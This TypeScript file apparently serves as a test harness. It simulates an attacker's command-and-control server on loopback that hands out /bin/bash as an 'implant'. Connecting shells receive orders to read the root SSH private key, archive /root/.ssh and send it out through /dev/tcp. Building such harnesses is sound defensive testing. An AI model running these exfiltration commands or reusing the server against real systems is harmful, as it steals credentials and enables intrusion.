import { once } from 'node:events';
import { createReadStream } from 'node:fs';
import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';

/** What a shell that has come home is told, line by line. */
const ORDERS = (port: number): string => `id
sleep 0.1
read -r key </root/.ssh/id_ed25519
sleep 0.1
tar -cf /tmp/loot.tar /root/.ssh
sleep 0.1
/opt/exfil -c "exec 3<>/dev/tcp/127.0.0.1/${port}; echo PUT >&3; cat /tmp/loot.tar >&3"
exit
`;

/** The attacker's machine, on loopback. Who says GET gets an implant (a copy of the shell), SHELL is told what to do, PUT is listened to. */
export class Attacker implements AsyncDisposable {
  readonly #server: Server;
  readonly #sockets = new Set<Socket>();

  private constructor() {
    this.#server = createServer((socket) => this.#accept(socket));
  }

  static async listen(): Promise<Attacker> {
    const attacker = new Attacker();
    attacker.#server.listen(0, '127.0.0.1');
    await once(attacker.#server, 'listening');
    return attacker;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  #accept(socket: Socket): void {
    this.#sockets.add(socket);
    socket.on('close', () => this.#sockets.delete(socket));
    socket.on('error', () => socket.destroy());
    socket.once('data', (first: Buffer) => {
      const word = first.toString('latin1').split('\n')[0];
      if (word === 'GET') createReadStream('/bin/bash').pipe(socket);
      else if (word === 'SHELL') socket.write(ORDERS(this.port));
      else socket.resume();
    });
  }

  async [Symbol.asyncDispose](): Promise<void> {
    for (const socket of this.#sockets) socket.destroy();
    this.#server.close();
    await once(this.#server, 'close');
  }
}

/** A port of loopback that nobody has now. */
export async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}
